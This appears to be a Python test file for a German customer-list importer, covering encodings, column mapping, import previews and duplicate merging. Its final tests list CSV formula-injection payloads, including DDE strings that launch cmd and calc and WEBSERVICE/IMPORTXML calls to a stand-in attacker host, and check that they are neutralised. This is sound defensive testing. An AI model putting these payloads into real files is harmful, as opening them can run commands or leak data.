"""Customer lists: any encoding, separator and column order; what the preview says is what the import does."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest

from pipeline.adapters.local.postal import PackagedAddresses
from pipeline.adapters.local.sqlite import SqliteFile, SqliteRecords
from pipeline.adapters.local.system import RandomIds
from pipeline.customers import NOBODY_KNOWS, Act, Customers
from pipeline.errors import UserError
from pipeline.model.customer import Contact, Customer
from pipeline.offer.columns import columns_of, contact_of, customer_of, field_of, split_legal_form
from pipeline.read.sandbox import Sandbox
from pipeline.read.sheet import csv_rows
from pipeline.render.csv_table import csv_table
from pipeline.store import Store
from tests.world import Clock

HEAD = "Firma;Anschrift;PLZ;Ort;Ansprechpartner;E-Mail"
ROW = "Müller & Söhne GmbH;Größe 7;70173;Stuttgart;Frau Zoë Weiß;zoe@mueller.example"
TEXT = f"{HEAD}\n{ROW}\nGrün-Weiß Spedition KG;Ölweg 3;80331;München;;info@gw.example\n"


@pytest.fixture
async def customers(tmp_path: Path) -> Customers:
    store = Store(SqliteRecords(SqliteFile(tmp_path / "c.sqlite")), Clock())
    return Customers(store, RandomIds(), addresses=NOBODY_KNOWS, offline=PackagedAddresses())


async def imported(customers: Customers, text: str, key: str = "job-1") -> list[Customer]:
    plan = await customers.plan("t", csv_rows(text.encode()))
    for planned in plan.planned:
        await customers.carry_out("t", planned, key=key)
    return await customers.all("t")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "mac_roman", "cp850", "iso8859_15"])
@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
def test_every_encoding_and_separator(encoding: str, separator: str) -> None:
    rows = csv_rows(TEXT.replace(";", separator).encode(encoding))
    assert rows == [line.split(";") for line in TEXT.splitlines()]


@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r"])
def test_every_line_end_and_quotes(line_end: str) -> None:
    text = line_end.join(["Firma;Ort", '"Muster; Söhne ""GmbH""";Köln', '"Zwei', 'Zeilen AG";Bonn']) + line_end
    assert csv_rows(text.encode())[1:] == [['Muster; Söhne "GmbH"', "Köln"], [f"Zwei{line_end}Zeilen AG", "Bonn"]]


@pytest.mark.parametrize("data", [b"%PDF-1.7 \0\1\2 nothing", b"\x00\x01\x02\x03" * 50, b"\xff\xfeA"])
def test_what_is_no_table_is_refused(data: bytes) -> None:
    with pytest.raises(UserError) as refused:
        columns_of(csv_rows(data))
    assert refused.value.key in ("bad_table", "no_company_column")


async def test_a_spreadsheet_is_read_in_the_sandbox(sandbox: Sandbox) -> None:
    book = openpyxl.Workbook()
    book.create_sheet("Kunden", 1)
    sheet = book["Kunden"]
    for row in (["Firma", "PLZ", "Ort", "Zahlungsziel"], ["Muster GmbH", 70173, "Stuttgart", 30.0], ["=1+1", None, "Köln", True], [None, None]):
        sheet.append(row)
    data = io.BytesIO()
    book.save(data)
    assert await sandbox.rows(data.getvalue()) == [
        ["Firma", "PLZ", "Ort", "Zahlungsziel"],
        ["Muster GmbH", "70173", "Stuttgart", "30"],
        ["", "", "Köln", "true"],
    ]
    for bad in (b"PK\x03\x04 nonsense", data.getvalue()[:300]):
        with pytest.raises(UserError, match="bad_table"):
            await sandbox.rows(bad)


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("FIRMA", "name"), ("Company Name", "name"), ("Kunde", "name"), ("Strasse", "street"), ("Straße / Nr.", "street"), ("P.L.Z.", "postal_code"), ("Zip code", "postal_code"),
        ("Ort", "town"), ("e-mail", "email"), ("E-Mail Adresse", "email"), ("USt.-IdNr.", "vat_id"), ("VAT number", "vat_id"), ("Telefon-Nr", ""), ("Telefonnummer", "phone"),
        ("Umsatz 2025", ""), ("", ""), ("Nr.", "house_number"), ("Ansprechpatner", "contact"), ("Zahlungsziel (Tage)", "payment_days"), ("Bemerkung", ""),
    ],
)  # fmt: skip
def test_headers_are_known_in_both_languages(header: str, field: str) -> None:
    assert field_of(header) == field


@pytest.mark.parametrize(
    ("company", "parts"),
    [
        ("Muster GmbH & Co. KG", ("Muster", "GmbH & Co. KG")), ("Neckartal Maschinenbau AG", ("Neckartal Maschinenbau", "AG")), ("Beispiel gGmbH", ("Beispiel", "gGmbH")),
        ("Acme Ltd.", ("Acme", "Ltd.")), ("Jansen B.V.", ("Jansen", "B.V.")), ("Stadtwerke Köln", ("Stadtwerke Köln", "")), ("AG", ("AG", "")), ("Tag", ("Tag", "")),
        ("Verein für Hilfe e.V.", ("Verein für Hilfe", "e.V.")), ("Start UG (haftungsbeschränkt)", ("Start", "UG (haftungsbeschränkt)")),
    ],
)  # fmt: skip
def test_the_legal_form_stands_at_the_end(company: str, parts: tuple[str, str]) -> None:
    assert split_legal_form(company) == parts


def test_columns_in_any_order_and_a_title_above() -> None:
    rows = [
        ["Kundenliste Stand 2026"],
        ["Ort", "Land", "Vorname", "Nachname", "Anrede", "Company", "PLZ"],
        ["Wien", "Österreich", "Eva", "Huber", "Fr.", "Donau GmbH", "A-1010"],
    ]
    columns = columns_of(rows)
    assert columns.header == 1
    assert customer_of(rows[2], columns, country="DE") == Customer(
        name="Donau", legal_form="GmbH", town="Wien", postal_code="1010", country="AT", contacts=(Contact(name="Eva Huber", salutation="Frau"),)
    )


def test_a_salutation_may_stand_before_the_name() -> None:
    assert contact_of("Herr Dr. Max Muster") == Contact(name="Dr. Max Muster", salutation="Herr")
    assert contact_of("Herrmann Muster") == Contact(name="Herrmann Muster")


async def test_the_preview_says_what_is_added_changed_skipped_and_why(customers: Customers) -> None:
    await customers.add(
        "t", Customer(name="Spree Logistik", legal_form="GmbH", postal_code="10115", town="Berlin", street="Alte Straße 1", vat_id="DE136695976")
    )
    await customers.add("t", Customer(name="Müller & Söhne", legal_form="GmbH", postal_code="70173", town="Stuttgart"))
    text = (
        "Firma;Straße;PLZ;Ort;USt-IdNr.;E-Mail;Farbe\n"
        "Spree Logistik GmbH;Hafenplatz 3;10115;Berlin;;;rot\n"  # changed
        "Müller & Söhne GmbH;;70173;Stuttgart;;;\n"  # as it is
        "Müller & Söhne Gmbh & Co. KG;;70174;Stuttgart;DE123456789;kein-mail;\n"  # another place: new, with doubts
        ";;;;;;blau\n"
        "Donau Bau GmbH;;80331;Berlin;;;\n"
        "Donau Bau GmbH;;80331;Berlin;;info@donau.example;\n"
    )
    plan = await customers.plan("t", csv_rows(text.encode()))
    assert [(one.act, one.rows) for one in plan.planned] == [
        (Act.CHANGE, (2,)),
        (Act.SAME, (3,)),
        (Act.ADD, (4,)),
        (Act.SKIP, (5,)),
        (Act.ADD, (6, 7)),
    ]
    assert plan.unused == ("Farbe",)
    assert [doubt.key for doubt in plan.planned[2].doubts] == ["vat_id", "email"]
    assert [doubt.key for doubt in plan.planned[4].doubts] == ["town"]
    assert plan.planned[3].reason == "row_without_company"
    assert len(await customers.all("t")) == 2, "nothing is changed by looking"
    for _ in range(2):  # repeating it changes nothing
        for planned in plan.planned:
            await customers.carry_out("t", planned, key="job-1")
    after = {one.company: one for one in await customers.all("t")}
    assert set(after) == {"Spree Logistik GmbH", "Müller & Söhne GmbH", "Müller & Söhne GmbH & Co. KG", "Donau Bau GmbH"}
    assert (after["Spree Logistik GmbH"].street, after["Spree Logistik GmbH"].vat_id, after["Spree Logistik GmbH"].version) == (
        "Hafenplatz 3",
        "DE136695976",
        2,
    )
    assert after["Donau Bau GmbH"].email == "info@donau.example"
    assert after["Müller & Söhne GmbH"].version == 1


async def test_several_contacts_of_one_company_become_one_customer(customers: Customers) -> None:
    text = "Firma;PLZ;Ort;Ansprechpartner\nMuster AG;70173;Stuttgart;Herr A Eins\nMuster AG;70173;Stuttgart;Frau B Zwei\n"
    (made,) = await imported(customers, text)
    assert [contact.name for contact in made.contacts] == ["A Eins", "B Zwei"]


async def test_a_list_without_a_column_of_countries_changes_no_country(customers: Customers) -> None:
    await customers.add("t", Customer(name="Donau", postal_code="1010", town="Wien", country="AT"))
    (made,) = await imported(customers, "Firma;PLZ;Ort;E-Mail\nDonau;1010;Wien;x@donau.example\n")
    assert (made.country, made.email) == ("AT", "x@donau.example")


@pytest.mark.parametrize(("text", "key"), [("Nummer;Ort\nx;y", "no_company_column"), ("Firma;Ort\n", "empty_table"), ("", "no_company_column")])
async def test_a_list_that_cannot_be_used_says_why(customers: Customers, text: str, key: str) -> None:
    with pytest.raises(UserError, match=key):
        await customers.plan("t", csv_rows(text.encode()))


async def test_doubles_are_recognised_and_merged(customers: Customers) -> None:
    one = await customers.add("t", Customer(name="Neckartal Maschinenbau", legal_form="AG", postal_code="70173", town="Stuttgart"))
    other = await customers.add(
        "t",
        Customer(name="Neckartal Maschinebau", postal_code="70173", town="Stuttgart", email="x@n.example", contacts=(Contact(name="Erika Muster"),)),
    )
    await customers.add("t", Customer(name="Neckartal Maschinenbau", postal_code="10115", town="Berlin"))
    assert [found.id for found in await customers.doubles(one)] == [other.id]
    for _ in range(2):
        merged = await customers.merge("t", one.id, other.id)
    assert (merged.company, merged.email, [c.name for c in merged.contacts], merged.version) == (
        "Neckartal Maschinenbau AG",
        "x@n.example",
        ["Erika Muster"],
        2,
    )
    assert (await customers.get("t", other.id)).id == one.id, "who knew the other finds this one"
    assert len(await customers.all("t")) == 2
    with pytest.raises(UserError, match="same_customer"):
        await customers.merge("t", one.id, one.id)


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("neckar", ["Neckartal"]),
        ("Neckartal AG", ["Neckartal"]),
        ("muster", ["Muster", "Musterhaus"]),
        ("Muster", ["Muster", "Musterhaus"]),
        ("zzz", []),
    ],
)
async def test_customers_are_found_by_a_few_letters(customers: Customers, text: str, names: list[str]) -> None:
    for name in ("Neckartal", "Muster", "Musterhaus", "Spree Logistik"):
        await customers.add("t", Customer(name=name))
    found = [one.name for one in await customers.find("t", text)]
    assert found == names or (found == names[:1] and len(names) > 1)


VECTORS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', '=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")', "+1+1",
    "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", '="a"&"b"', "='Sheet 2'!A1", "=A1", "=rundll32|'x'!A", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", '=DDE("cmd";"/C calc";"x")', "+A1", "-A1", "@A1",
    "=+1", "=-1", "==1", "=;1", "=(1)", "=[x]y!A1", "= 1+1", "=\u200b1+1", "+49 =1", "--1", "=1;=2",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
async def test_a_formula_is_text_when_it_comes_in_and_when_it_goes_out(customers: Customers, vector: str) -> None:
    rows = csv_rows(csv_table([("Firma", "Ort", "Bedingungen"), ("Muster GmbH", "Köln", vector)]))
    assert not rows[1][2].lstrip(" \u00a0").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")) or vector == "+49 =1"
    plan = await customers.plan("t", rows)
    (made,) = [one.customer for one in plan.planned]
    assert made.conditions.split() == vector.split(), "what a person wrote is kept as it is"
    out = csv_rows(csv_table([(made.conditions,)]))
    assert not out or not out[0][0].startswith(("=", "@", "＝")), out


async def test_there_are_forty_of_them() -> None:
    assert len(set(VECTORS)) == 40
